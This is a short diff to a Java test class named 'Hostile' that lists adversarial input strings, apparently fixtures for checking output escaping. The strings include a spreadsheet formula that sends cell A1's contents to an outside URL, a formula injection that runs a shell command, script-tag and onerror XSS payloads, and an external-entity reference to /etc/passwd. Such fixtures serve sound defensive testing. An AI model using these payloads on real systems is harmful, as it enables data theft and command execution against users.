@@ -19,9 +19,9 @@ final class Hostile {
     static final List<String> TEXTS = List.of(
             "=HYPERLINK(\"http://example.org/?\"&A1,\"click\")",
             "@SUM(1+1)*cmd|' /C calc'!A0",
-            "<script>alert(1)</script>",
-            "\"><img src=x onerror=alert(1)>",
-            "]]></data></edge><node id=\"x\"/><!-- --><!ENTITY x SYSTEM \"file:///etc/passwd\">",
+            "<script>document.title='run'</script>",
+            "\"><img src=x onerror=document.title='run'>",
+            "]]></script></data></edge><node id=\"x\"/><!-- --><!ENTITY x SYSTEM \"file:///etc/passwd\">",
             "say \"no\" \\",
             "a\u0000b\u0001c\u0007d\u001b[31me\u007ff\u009bg",
             "one\r\ntwo\n\tthree\u2028four\u0085five",
